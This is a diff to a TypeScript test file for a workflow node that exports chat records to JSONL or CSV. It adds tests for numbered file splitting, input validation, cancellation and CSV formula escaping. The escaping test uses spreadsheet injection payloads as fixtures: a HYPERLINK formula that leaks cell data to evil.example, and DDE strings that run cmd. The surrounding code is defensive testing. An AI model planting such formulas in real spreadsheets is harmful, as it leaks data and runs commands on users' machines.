@@ -87,6 +87,12 @@ function parseCsv(text: string): string[][] {
 	return rows;
 }
 
+/** A file item's json for the 2-day range of `workflow()`, read in 2 windows and 4 pages. */
+function twoDayFileJson(format: string, fileName: string, records: number, part: number, parts: number) {
+	const range = { startTime: '2024-03-01T00:00:00+08:00', endTime: '2024-03-02T23:59:59+08:00', windows: 2, pages: 4 };
+	return { records, part, parts, ...range, fileName, fileFormat: format };
+}
+
 async function fileBytes(binary: IBinaryData): Promise<Buffer> {
 	return await Container.get(BinaryDataService).getAsBuffer(binary);
 }
@@ -107,8 +113,14 @@ function readBack(bytes: Buffer, format: string): Array<Record<string, unknown>>
 	return rows.map((r) => Object.fromEntries(header.map((h, k) => [h, r[k]])));
 }
 
+/** A cell as the CSV must hold it: a text a spreadsheet would read as a formula gets a leading '. */
+function spreadsheetText(value: unknown): string {
+	const text = String(value);
+	return ['=', '+', '-', '@', '\t', '\r'].includes(text.charAt(0)) ? `'${text}` : text;
+}
+
 function asCsvText(items: Array<Record<string, unknown>>): Array<Record<string, string>> {
-	return items.map((i) => Object.fromEntries(Object.entries(i).map(([k, v]) => [k, String(v)])));
+	return items.map((i) => Object.fromEntries(Object.entries(i).map(([k, v]) => [k, spreadsheetText(v)])));
 }
 
 describe('Record: Get Many → File', () => {
@@ -123,33 +135,44 @@ describe('Record: Get Many → File', () => {
 		rmSync(dir, { recursive: true, force: true });
 	});
 
+	/** Items mode, then file mode with `fileParams`, over 2 days × 12,000 records: per day a full page, a partial one; a record exactly on the day boundary. */
+	async function itemsThenFiles(mode: string, fileParams: Record<string, unknown>) {
+		if (mode === 'filesystem') restore = await useFilesystemBinaryData(dir);
+		ctx.sb.state.records.generate({ start: T0, days: 2, perDay: 12000 });
+		const itemsRun = await runWorkflow(workflow(), sandboxCredential(ctx.sb));
+		const itemRequests = ctx.sb.requestsTo(MSG_LIST_PATH).map((r) => r.json);
+		ctx.sb.clearRequests();
+		const result = await runWorkflow(workflow({ output: 'file', ...fileParams }), sandboxCredential(ctx.sb));
+		expect(result.error).toBeUndefined();
+		return { itemsRun, itemRequests, result };
+	}
+
+	/** A file export of 2 days × 30,000 records in filesystem mode, cancelled while the third page is served: the files left in the store. */
+	async function cancelOnThirdPage(params: Record<string, unknown> = {}) {
+		restore = await useFilesystemBinaryData(dir);
+		ctx.sb.state.records.generate({ start: T0, days: 2, perDay: 30000 });
+		const abort = new AbortController();
+		tamperMsgList(ctx.sb, (_answer, _req, served) => {
+			if (served === 3) abort.abort();
+		});
+		const result = await runWorkflow(workflow({ output: 'file', ...params }), sandboxCredential(ctx.sb), { abortSignal: abort.signal });
+		await new Promise((resolve) => setTimeout(resolve, 300));
+		expect(ctx.sb.requestsTo(MSG_LIST_PATH)).toHaveLength(3);
+		expect(result.output(NODE)).toHaveLength(0);
+		return readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile() && !e.name.endsWith('.metadata'));
+	}
+
 	it.each([
 		['jsonl', 'default'],
 		['jsonl', 'filesystem'],
 		['csv', 'default'],
 		['csv', 'filesystem'],
 	])('%s in %s binary mode: every record of the range once, in order, with the same requests as items mode', async (format, mode) => {
-		if (mode === 'filesystem') restore = await useFilesystemBinaryData(dir);
-		// 2 days × 12,000: per day a full page, a partial one; a record exactly on the day boundary.
-		ctx.sb.state.records.generate({ start: T0, days: 2, perDay: 12000 });
-		const itemsRun = await runWorkflow(workflow(), sandboxCredential(ctx.sb));
-		const itemRequests = ctx.sb.requestsTo(MSG_LIST_PATH).map((r) => r.json);
-		ctx.sb.clearRequests();
-
-		const result = await runWorkflow(workflow({ output: 'file', fileFormat: format }), sandboxCredential(ctx.sb));
-		expect(result.error).toBeUndefined();
+		const { itemsRun, itemRequests, result } = await itemsThenFiles(mode, { fileFormat: format });
 		const [item, ...more] = result.output(NODE);
 		expect(more).toHaveLength(0);
 		const fileName = `wechat-chat-records-20240301-000000-20240302-235959.${format}`;
-		expect(item.json).toEqual({
-			records: 24000,
-			startTime: '2024-03-01T00:00:00+08:00',
-			endTime: '2024-03-02T23:59:59+08:00',
-			windows: 2,
-			pages: 4,
-			fileName,
-			fileFormat: format,
-		});
+		expect(item.json).toEqual(twoDayFileJson(format, fileName, 24000, 1, 1));
 		expect(item.pairedItem).toEqual({ item: 0 });
 		const binary = item.binary!.data;
 		expect(binary).toMatchObject({ fileName, mimeType: format === 'csv' ? 'text/csv' : 'application/x-ndjson', fileExtension: format });
@@ -191,6 +214,65 @@ describe('Record: Get Many → File', () => {
 		expect(readBack(bytes, 'csv')).toEqual(asCsvText(expectedItems()));
 	});
 
+	it.each([
+		['jsonl', 'filesystem'],
+		['csv', 'filesystem'],
+		['csv', 'default'],
+	])('%s in %s binary mode: Records per File splits the export into numbered files, one item each, the same records and requests', async (format, mode) => {
+		// 24,000 records in 8,000 per file: boundaries inside a page, and the last file full (no empty fourth file).
+		const { itemsRun, itemRequests, result } = await itemsThenFiles(mode, { fileFormat: format, recordsPerFile: 8000 });
+		const items = result.output(NODE);
+		const names = [1, 2, 3].map((p) => `wechat-chat-records-20240301-000000-20240302-235959-part000${p}.${format}`);
+		expect(items.map((i) => i.json)).toEqual(names.map((fileName, k) => twoDayFileJson(format, fileName, 8000, k + 1, 3)));
+		expect(items.map((i) => i.binary!.data.fileName)).toEqual(names);
+		const files = await Promise.all(items.map(async (i) => await fileBytes(i.binary!.data)));
+		const expected = expectedItems();
+		if (format === 'jsonl') {
+			expect(Buffer.concat(files).toString('utf8')).toBe(itemsRun.json(NODE).map((j) => `${JSON.stringify(j)}\n`).join(''));
+		} else {
+			// Each file stands alone: BOM, header, its own rows.
+			files.forEach((bytes, k) => expect(readBack(bytes, 'csv')).toEqual(asCsvText(expected.slice(8000 * k, 8000 * (k + 1)))));
+		}
+		expect(ctx.sb.requestsTo(MSG_LIST_PATH).map((r) => r.json)).toEqual(itemRequests);
+	});
+
+	it.each([0, 1.5, 1000001, 'many'])('refuses Records per File %p before any request', async (recordsPerFile) => {
+		const result = await runWorkflow(workflow({ output: 'file', recordsPerFile }), sandboxCredential(ctx.sb));
+		expect(result.error?.message).toBe(
+			typeof recordsPerFile === 'string'
+				? `"Records per File" must be a number, got "${recordsPerFile}"`
+				: `"Records per File" must be a whole number from 1 to 1000000, got ${recordsPerFile}`,
+		);
+		expect(ctx.sb.requestsTo(MSG_LIST_PATH)).toHaveLength(0);
+	});
+
+	it('CSV writes a text starting with = + - @ TAB or CR with a leading \' and quotes; JSON Lines keeps every text exactly', async () => {
+		const formulas = [
+			'=HYPERLINK("http://evil.example/?leak="&E2,"click")',
+			"+1+cmd|' /C calc'!A0",
+			'-1+2',
+			"@SUM(1+1)*cmd|' /C calc'!A0",
+			'\t=1+1',
+			'\r=1+1',
+		];
+		const plain = ['nul\u0000inside', 'cr\rlf\nboth\r\n', 'say "hi", twice', '😀 你好', 'line\u2028sep', '', ' =1', 'a=b'];
+		const texts = [...formulas, ...plain];
+		ctx.sb.state.records.add(texts.map((text, i) => ({ time: T0 + 60 + i, worker: 'kf1@sandbox_oa', openid: `o_${i}`, opercode: 2003, text })));
+		const csv = await runWorkflow(workflow({ output: 'file', fileFormat: 'csv' }), sandboxCredential(ctx.sb));
+		const csvText = (await fileBytes(csv.output(NODE)[0].binary!.data)).toString('utf8');
+		for (const [i, text] of formulas.entries()) {
+			expect(csvText).toContain(`,o_${i},"'${text.replace(/"/g, '""')}",2003,`);
+		}
+		const rows = readBack(await fileBytes(csv.output(NODE)[0].binary!.data), 'csv');
+		expect(rows.map((r) => r.text)).toEqual([...formulas.map((t) => `'${t}`), ...plain]);
+		expect(rows).toEqual(asCsvText(expectedItems()));
+
+		const jsonl = await runWorkflow(workflow({ output: 'file' }), sandboxCredential(ctx.sb));
+		const lines = readBack(await fileBytes(jsonl.output(NODE)[0].binary!.data), 'jsonl');
+		expect(lines.map((l) => l.text)).toEqual(texts);
+		expect(lines).toEqual(expectedItems());
+	});
+
 	it('an empty range gives a file with no records (CSV: BOM and header only)', async () => {
 		const csv = await runWorkflow(workflow({ output: 'file', fileFormat: 'csv' }), sandboxCredential(ctx.sb));
 		expect(csv.output(NODE)[0].json).toMatchObject({ records: 0, windows: 2, pages: 2 });
@@ -227,18 +309,12 @@ describe('Record: Get Many → File', () => {
 		expect(ctx.sb.requestsTo(MSG_LIST_PATH)).toHaveLength(0);
 	});
 
-	it('cancelling the execution stops the requests and the writing; no file is left behind', async () => {
-		restore = await useFilesystemBinaryData(dir);
-		ctx.sb.state.records.generate({ start: T0, days: 2, perDay: 30000 });
-		const abort = new AbortController();
-		tamperMsgList(ctx.sb, (_answer, _req, served) => {
-			if (served === 3) abort.abort();
-		});
-		const result = await runWorkflow(workflow({ output: 'file' }), sandboxCredential(ctx.sb), { abortSignal: abort.signal });
-		await new Promise((resolve) => setTimeout(resolve, 300));
-		expect(ctx.sb.requestsTo(MSG_LIST_PATH)).toHaveLength(3);
-		expect(result.output(NODE)).toHaveLength(0);
-		const files = readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile());
-		expect(files.map((f) => f.name)).toEqual([]);
+	it('cancelling within the first file stops the requests and the writing; no file is left behind', async () => {
+		expect(await cancelOnThirdPage()).toEqual([]);
+	});
+
+	it('cancelling after a file is stored stops the requests; the stored file stays with the execution', async () => {
+		// 10,000 a page and a file: file 1 is stored once page 2 is in hand, before page 3 is asked for.
+		expect(await cancelOnThirdPage({ recordsPerFile: 10000 })).toHaveLength(1);
 	});
 });
